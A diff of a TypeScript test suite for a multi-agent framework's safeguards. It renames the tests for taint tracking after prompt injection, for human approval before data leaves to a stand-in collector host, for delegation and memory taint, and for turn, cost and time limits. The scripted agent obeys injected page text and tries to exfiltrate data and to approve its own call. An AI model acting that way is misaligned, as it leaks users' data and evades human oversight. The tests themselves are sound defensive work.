@@ -56,8 +56,8 @@ const obeys: ScriptedStep[] = [
   { text: "done" },
 ];
 
-describe("A14: an instruction in what a tool read does not become an act", () => {
-  test("a tool that the role does not name is refused, whatever the page says", async () => {
+describe("A14: instructions in tool results", () => {
+  test("a tool that its role does not name is refused, even if a page requests it", async () => {
     const stage = newScriptedStage(obeys, [page, post]);
     const { events } = await stage.run(work(), { roles: [role("Worker", ["page"])] });
     expect(stage.tools.calls).toEqual(['Worker page {"text":"https://example.com"}']);
@@ -66,7 +66,7 @@ describe("A14: an instruction in what a tool read does not become an act", () =>
     ]);
   });
 
-  test("a tool that it does name, and that sends data out, waits for a person; the policy cannot waive that", async () => {
+  test("a sink needs approval after a page was read, even if the policy is never", async () => {
     const stage = newScriptedStage(obeys, [page, post]);
     const id = stage.start(work(), {
       roles: [role("Worker", ["page", "post"])],
@@ -85,7 +85,7 @@ describe("A14: an instruction in what a tool read does not become an act", () =>
     expect(stage.tools.calls).toHaveLength(1);
   });
 
-  test("where another agent of the crew read the page, taint goes along with the work", async () => {
+  test("taint follows the work to another agent of the crew", async () => {
     const stage = newScriptedStage(
       [
         as("reader", calls(call("page", { text: "x" }))),
@@ -111,7 +111,7 @@ describe("A14: an instruction in what a tool read does not become an act", () =>
     expect(stage.tools.calls).toEqual(['reader page {"text":"x"}']);
   });
 
-  test("every source that was read is named, also to those who come later", async () => {
+  test("a confirmation names every tainting source, including those that earlier agents read", async () => {
     const stage = newScriptedStage(
       [
         as("reader", calls(call("page", { text: "x" }), call("mail", { text: "y" }))),
@@ -137,7 +137,7 @@ describe("A14: an instruction in what a tool read does not become an act", () =>
     expect(stage.tools.calls.filter((made) => made.includes("post"))).toEqual([]);
   });
 
-  test("the result of a delegate carries the taint to who asked for it", async () => {
+  test("a delegate's result taints its delegator", async () => {
     const stage = newScriptedStage(
       [
         as("boss", calls(call("delegate_task", { coworker: "reader", task: "read it" }))),
@@ -159,7 +159,7 @@ describe("A14: an instruction in what a tool read does not become an act", () =>
     expect(stage.tools.calls).toEqual(['reader page {"text":"x"}']);
   });
 
-  test("a tool that was allowed for the whole run is asked about again once a page was read", async () => {
+  test("a tool approved for the whole run is asked about again after a page was read", async () => {
     const stage = newScriptedStage(
       [calls(call("post", { text: "hello" })), calls(call("post", { text: "again" })), ...obeys],
       [page, post],
@@ -186,7 +186,7 @@ describe("A14: an instruction in what a tool read does not become an act", () =>
     ]);
   });
 
-  test("what is denied for the run stays denied, though the role names it", async () => {
+  test("a tool denied for the run stays denied even if the role names it", async () => {
     const stage = newScriptedStage(obeys, [page, post]);
     const { events } = await stage.run(work(), {
       roles: [role("Worker", ["page", "post"])],
@@ -197,7 +197,7 @@ describe("A14: an instruction in what a tool read does not become an act", () =>
   });
 });
 
-describe("A14: after content of strangers every way out is a way out", () => {
+describe("A14: sinks after untrusted content", () => {
   const fetched: string[] = [];
   const web = webTools({
     fetch: async (url) => {
@@ -238,11 +238,11 @@ describe("A14: after content of strangers every way out is a way out", () => {
       "https://collector.example/in",
     ],
     [
-      "what is sent",
+      "a request body",
       call("http_write", { url: "https://collector.example/in", body: "x" }),
       "https://collector.example/in",
     ],
-  ])("%s waits for a person, who sees where it leads and where that came from", async (_what, way, value) => {
+  ])("%s waits for a person, who sees the destination and its origin", async (_what, way, value) => {
     const run = newRun([read, calls(way), { text: "done" }]);
     const question = await reject(run);
     expect(question).toMatchObject({ tool_name: way.tool_name, taint_sources: ["browse_url"] });
@@ -252,7 +252,7 @@ describe("A14: after content of strangers every way out is a way out", () => {
     expect(fetched).toEqual(["https://news.example/today"]);
   });
 
-  test("the words of a search wait, where something private was read that is in them", async () => {
+  test("a search waits for a person if its query contains private data that was read", async () => {
     const run = newRun([
       calls(call("notes", { text: "x" })),
       calls(call("web_search", { text: "news today" })),
@@ -267,7 +267,7 @@ describe("A14: after content of strangers every way out is a way out", () => {
     expect(run.stage.tools.calls.filter((made) => made.includes("web_search"))).toHaveLength(1);
   });
 
-  test("what a person named is reached without a question, also with new data; so is a link as a page gave it", async () => {
+  test("a destination that a person named or a page linked to needs no approval", async () => {
     const { stage, id } = newRun(
       [
         read,
@@ -288,7 +288,7 @@ describe("A14: after content of strangers every way out is a way out", () => {
     expect(stage.store.state(id)!.interactions).toEqual({});
   });
 
-  test("words that an agent copied into the state or onto the board are nobody's own", async () => {
+  test("text that an agent copied into the state does not count as a person's own", async () => {
     const graph = draw("start > one > two > end", {
       one: {
         node_type: "agent_task",
@@ -319,7 +319,7 @@ describe("A14: after content of strangers every way out is a way out", () => {
     expect(fetched).toEqual(["https://news.example/today"]);
   });
 
-  test("three ways out of one step are one question, and each can be agreed to by itself", async () => {
+  test("three sinks in one step are one question, and each can be approved separately", async () => {
     const three = [1, 2, 3].map((n) => call("browse_url", { url: `${LEAK}&n=${n}` }));
     const { stage, id } = newRun([read, calls(...three), { text: "done" }]);
     const open = await asked(stage, id);
@@ -345,7 +345,7 @@ describe("A14: after content of strangers every way out is a way out", () => {
     expect(rejectedCalls.map(({ args }) => args)).toEqual([three[0]!.args, three[2]!.args]);
   });
 
-  test("an agreement to one of several questions is for exactly those calls", async () => {
+  test("an approval with the fingerprint of another question is rejected", async () => {
     const ask = async (n: string) => {
       const pair = [
         call("browse_url", { url: `${LEAK}&n=${n}` }),
@@ -368,7 +368,7 @@ describe("A14: after content of strangers every way out is a way out", () => {
     }
   });
 
-  test("what a person approved for the rest of the run is not asked about again, and nothing beside it", async () => {
+  test("an approval for the rest of the run covers only the same destination", async () => {
     const same = call("http_request", { url: "https://collector.example/in", headers: { a: "1" } });
     const { stage, id } = newRun([
       read,
@@ -388,7 +388,7 @@ describe("A14: after content of strangers every way out is a way out", () => {
     expect(fetched).toHaveLength(3);
   });
 
-  test("what an agent's code calls is judged like its own calls", async () => {
+  test("calls made by an agent's code are checked like its own calls", async () => {
     const code = `await call("browse_url", { url: "https://news.example/today" });
       return await call("browse_url", { url: ${JSON.stringify(LEAK)} });`;
     fetched.length = 0;
@@ -405,7 +405,7 @@ describe("A14: after content of strangers every way out is a way out", () => {
     expect(fetched).toEqual(["https://news.example/today"]);
   });
 
-  test("a delegate that reads taints whoever asked it, also for what only reads", async () => {
+  test("a delegate that reads untrusted content taints its delegator, even for read-only calls", async () => {
     fetched.length = 0;
     const stage = newScriptedStage(
       [
@@ -430,20 +430,20 @@ describe("A14: after content of strangers every way out is a way out", () => {
   });
 });
 
-describe("the stricter of installation, run and role decides whether a person is asked", () => {
+describe("strictest confirmation policy", () => {
   const act = tool("act", { read_only: false, risk: "MEDIUM" });
   const kinds = { never: { kind: "never" }, always: { kind: "always" } } as const;
   test.each([
-    ["the run asks and the role would not", { run: kinds.always, role: kinds.never }],
-    ["the role asks and the run would not", { run: kinds.never, role: kinds.always }],
+    ["the run requires it and the role does not", { run: kinds.always, role: kinds.never }],
+    ["the role requires it and the run does not", { run: kinds.never, role: kinds.always }],
     [
-      "the installation asks and neither run nor role would",
+      "the installation requires it and neither run nor role does",
       { run: kinds.never, role: kinds.never, installation: kinds.always },
     ],
   ] as [
     string,
     Record<"run" | "role", ConfirmationPolicy> & Partial<Record<"installation", ConfirmationPolicy>>,
-  ][])("%s", async (_what, { run, role: ofRole, installation }) => {
+  ][])("a person is asked if %s", async (_what, { run, role: ofRole, installation }) => {
     const stage = newScriptedStage([calls(call("act", { text: "a" })), { text: "done" }], [act]);
     const id = stage.start(work(), {
       roles: [role("Worker", ["act"], { confirmation: ofRole })],
@@ -455,7 +455,7 @@ describe("the stricter of installation, run and role decides whether a person is
     await answered(stage, id, open, "reject");
     expect(stage.tools.calls).toEqual([]);
   });
-  test("nobody is asked where none of them asks", async () => {
+  test("no person is asked if neither run nor role requires it", async () => {
     const stage = newScriptedStage([calls(call("act", { text: "a" })), { text: "done" }], [act]);
     await stage.run(work(), {
       roles: [role("Worker", ["act"], { confirmation: kinds.never })],
@@ -465,7 +465,7 @@ describe("the stricter of installation, run and role decides whether a person is
   });
 });
 
-describe("A16: a person's agreement counts for exactly what was shown, once", () => {
+describe("A16: scope of an approval", () => {
   const send = tool("send", { read_only: false, risk: "HIGH" });
   const begin = (...steps: ScriptedStep[]) => {
     const stage = newScriptedStage(steps, [send]);
@@ -474,7 +474,7 @@ describe("A16: a person's agreement counts for exactly what was shown, once", ()
   };
   const yes = { answer: "approve" as const, by: "ann" };
 
-  test("not for other arguments, not for another run, not twice", async () => {
+  test("an approval does not count for other arguments, for another run or twice", async () => {
     const one = begin(calls(call("send", { text: "a" })), calls(call("send", { text: "b" })), {
       text: "done",
     });
@@ -506,7 +506,7 @@ describe("A16: a person's agreement counts for exactly what was shown, once", ()
     expect(other.stage.tools.calls).toEqual([]);
   });
 
-  test("a model cannot answer the question that its own call raised", async () => {
+  test("a model can't answer the question that its own call raised", async () => {
     const { stage, id } = begin(
       {
         tool_calls: [call("send", { text: "a" }), call("send", { text: "a", approved: true })],
@@ -537,14 +537,14 @@ describe("A16: a person's agreement counts for exactly what was shown, once", ()
   });
 });
 
-describe("a right that was taken away after an approval", () => {
+describe("permissions revoked after an approval", () => {
   const send = tool("send", { read_only: false, risk: "HIGH" });
   const granted = { tools: ["send"] };
   test.each([
-    ["the tool was taken from the role", { tools: [] }, "has lost the permission to use send"],
+    ["the tool was removed from the role", { tools: [] }, "has lost the permission to use send"],
     ["the role was removed", undefined, "was removed, and with it the permission to use send"],
-    ["nothing was taken away", granted, null],
-  ])("%s: the approval does not bring it back", async (_what, later, reason) => {
+    ["nothing was revoked", granted, null],
+  ])("an approved call is checked against current permissions: %s", async (_what, later, reason) => {
     let now: { tools: string[] } | undefined = granted;
     const models = newScriptedModels([calls(call("send", { text: "a" })), { text: "done" }]);
     const tools = fakeTools(
@@ -570,7 +570,7 @@ describe("a right that was taken away after an approval", () => {
   });
 });
 
-describe("A16: a question that nobody answers", () => {
+describe("A16: unanswered questions", () => {
   const MINUTE = 60_000;
   const send = tool("send", { read_only: false, risk: "HIGH" });
   const steps: ScriptedStep[] = [calls(call("send", { text: "a" })), { text: "done without it" }];
@@ -583,7 +583,7 @@ describe("A16: a question that nobody answers", () => {
   afterEach(() => void vi.useRealTimers());
   const QUARTER = { answer_within_ms: 15 * MINUTE };
 
-  test("counts as no once its time is over, which the model is told; an answer after that counts for nothing", async () => {
+  test("an expired question counts as rejected, the model is told, and later answers are ignored", async () => {
     const stage = newScriptedStage(steps, [send], QUARTER);
     const id = stage.start(work(), { roles: [role("Worker", ["send"])] });
     const open = await asked(stage, id);
@@ -607,7 +607,7 @@ describe("A16: a question that nobody answers", () => {
     expect(stage.tools.calls).toEqual([]);
   });
 
-  test("where the server was down meanwhile, silence counts five minutes after the start: before that nobody could answer", async () => {
+  test("a question that expired during downtime stays open for five minutes after the start", async () => {
     const before = newScriptedStage(steps, [send], QUARTER);
     const id = before.start(work(), { roles: [role("Worker", ["send"])] });
     const open = await asked(before, id);
@@ -633,7 +633,7 @@ describe("A16: a question that nobody answers", () => {
     expect(tools.calls).toEqual([]);
   });
 
-  test("a person's reason for a no reaches the model, word by word", async () => {
+  test("a person's reason for a rejection reaches the model verbatim", async () => {
     const stage = newScriptedStage(steps, [send]);
     const id = stage.start(work(), { roles: [role("Worker", ["send"])] });
     const open = await asked(stage, id);
@@ -649,10 +649,10 @@ describe("A16: a question that nobody answers", () => {
   });
 });
 
-describe("A17: delegation gives nobody more rights", () => {
+describe("A17: permissions of delegates", () => {
   const write = tool("file_write", { read_only: false });
 
-  test("a delegate's tools are what its delegator has too", async () => {
+  test("a delegate can use only tools that its delegator also has", async () => {
     const { events, tools, state } = await runCrew(
       [
         as("boss", calls(call("delegate_task", { coworker: "hand", task: "write it" }))),
@@ -676,7 +676,7 @@ describe("A17: delegation gives nobody more rights", () => {
     expect(state.state.result).toBe("done");
   });
 
-  test("delegation over two levels gives no right that only the later ones have", async () => {
+  test("delegation over two levels grants no tool that the first agent lacks", async () => {
     const { tools } = await runCrew(
       [
         as("a", calls(call("delegate_task", { coworker: "b", task: "x" }))),
@@ -719,7 +719,7 @@ describe("A17: delegation gives nobody more rights", () => {
     );
   };
 
-  test("a chain of delegates is at most two deep unless its crew says otherwise; who is at the end has to do it", async () => {
+  test("delegation is two levels deep by default, and the last agent can't delegate", async () => {
     const { events, state } = await chain();
     expect(of(events, "delegation_started").map(({ from, to, level }) => [from, to, level])).toEqual([
       ["a", "b", 1],
@@ -729,14 +729,14 @@ describe("A17: delegation gives nobody more rights", () => {
     expect(state.state.result).toBe("a is done");
   });
 
-  test("no crew can ask for more than five levels", async () => {
+  test("a crew can allow at most five levels of delegation", async () => {
     const { events } = await chain(5);
     expect(Math.max(...of(events, "delegation_started").map(({ level }) => level))).toBe(5);
     expect(of(events, "tool_call_refused")).toHaveLength(1);
     expect(() => AgentConfig.parse(agent("a", { max_delegation_depth: 6 }))).toThrow();
   });
 
-  test("delegating in a circle is refused: whoever waits for a result cannot be asked for it", async () => {
+  test("delegating back to an agent that waits for the result is refused", async () => {
     const { events, state } = await runCrew(
       [
         as("a", calls(call("delegate_task", { coworker: "b", task: "x" }))),
@@ -752,7 +752,7 @@ describe("A17: delegation gives nobody more rights", () => {
     expect(state.state.result).toBe("done");
   });
 
-  test("one who calls many at once gets no more turns by it, and each of them has only the caller's tools", async () => {
+  test("many delegates share the run's turn limit and get only the caller's tools", async () => {
     const many = Array.from({ length: 12 }, (_, at) =>
       call("delegate_task", { coworker: "b", task: `part ${at}` }),
     );
@@ -777,7 +777,7 @@ describe("A17: delegation gives nobody more rights", () => {
     expect(stage.tools.calls).toEqual([]);
   });
 
-  test("delegates work on the run's own account of turns", async () => {
+  test("delegates count toward the run's turn limit", async () => {
     const { state, models } = await runWithLimit(3);
     expect(models.calls).toHaveLength(3);
     expect(state.totals.global_iterations).toBe(3);
@@ -804,7 +804,7 @@ describe("A17: delegation gives nobody more rights", () => {
   }
 });
 
-describe("A18: an agent that never ends is ended at the limit, exactly", () => {
+describe("A18: limits of endless agents", () => {
   const lookupTool = tool("look");
   const endless = (tools: readonly ToolInterface[] = [lookupTool]) =>
     newScriptedStage(
@@ -812,7 +812,7 @@ describe("A18: an agent that never ends is ended at the limit, exactly", () => {
       tools,
     );
 
-  test.each([1, 4, 9])("turns: %i calls and no further", async (max_global_iterations) => {
+  test.each([1, 4, 9])("an endless agent stops after exactly %i turns", async (max_global_iterations) => {
     const stage = endless();
     const { state } = await stage.run(work(100), {
       roles: [role("Worker", ["look"])],
@@ -823,7 +823,7 @@ describe("A18: an agent that never ends is ended at the limit, exactly", () => {
     expect(state.run).toMatchObject({ final_status: "INCOMPLETE", reason_code: "MAX_ITERATIONS" });
   });
 
-  test("tokens: no call goes out once they are used up", async () => {
+  test("no call is made once the token budget is used up", async () => {
     const script = Array.from({ length: 40 }, (_, at) => `[[offline: tool look {"text": "${at}"}]]`).join(
       " ",
     );
@@ -853,7 +853,7 @@ describe("A18: an agent that never ends is ended at the limit, exactly", () => {
     expect(of(events, "tool_call_completed")).toHaveLength(spent.length);
   });
 
-  test("money: one account for a crew and its delegates, whose calls of tools end with it", async () => {
+  test("agents of a crew share one cost budget and stop when it is used up", async () => {
     const again = (at: number) => `[[offline: tool look {"text": "${at}"}]]`;
     const endless = Array.from({ length: 30 }, (_, at) => again(at)).join(" ");
     const prices = { "*": { input_per_mtok: 1_000, output_per_mtok: 1_000 } };
@@ -888,7 +888,7 @@ describe("A18: an agent that never ends is ended at the limit, exactly", () => {
     expect(costs.length).toBeGreaterThan(1);
   });
 
-  test("time: a tool that never answers is given up at its own limit, and the run stops at its own", async () => {
+  test("a hanging tool ends at its own timeout, and the run at its time limit", async () => {
     let aborted = 0;
     const silent = tool("look", {
       timeout_ms: 300,
@@ -927,7 +927,7 @@ describe("A18: an agent that never ends is ended at the limit, exactly", () => {
         }),
     );
     afterEach(() => void vi.useRealTimers());
-    test("waiting for a person is not time at work", async () => {
+    test("waiting for a person does not count as active time", async () => {
       const send = tool("send", { read_only: false, risk: "HIGH" });
       const stage = newScriptedStage([calls(call("send", { text: "a" })), { text: "done" }], [send]);
       const id = stage.start(work(), {
@@ -942,7 +942,7 @@ describe("A18: an agent that never ends is ended at the limit, exactly", () => {
     });
   });
 
-  test("turns of one agent: the last is without tools, then it is over", async () => {
+  test("an endless agent gets no tools on its last turn and then fails", async () => {
     const stage = endless();
     const { state } = await stage.run(work(3), { roles: [role("Worker", ["look"])] });
     expect(stage.models.calls).toHaveLength(3);
@@ -950,7 +950,7 @@ describe("A18: an agent that never ends is ended at the limit, exactly", () => {
     expect(state.run.error?.code).toBe("MAX_ITERATIONS");
   });
 
-  test("handoffs to and fro are ended too", async () => {
+  test("endless handoffs back and forth stop the run", async () => {
     const to = (from: string, next: string) =>
       as(from, calls(call("handoff", { destination_agent: next, reason: "yours" })));
     const models = newScriptedModels(
@@ -970,8 +970,8 @@ describe("A18: an agent that never ends is ended at the limit, exactly", () => {
   });
 });
 
-describe("A39: a note that a misled run left behind does not mislead the next", () => {
-  test("what another run remembered taints who reads it, and sending out waits for a person", async () => {
+describe("A39: memories of a misled run", () => {
+  test("a memory of another run taints its reader, so sending data out waits for a person", async () => {
     const db = emptyDb();
     const tools = [...memoryTools(new MemoryStore(db)), page, post];
     const stageOf = (steps: readonly ScriptedStep[]) => {
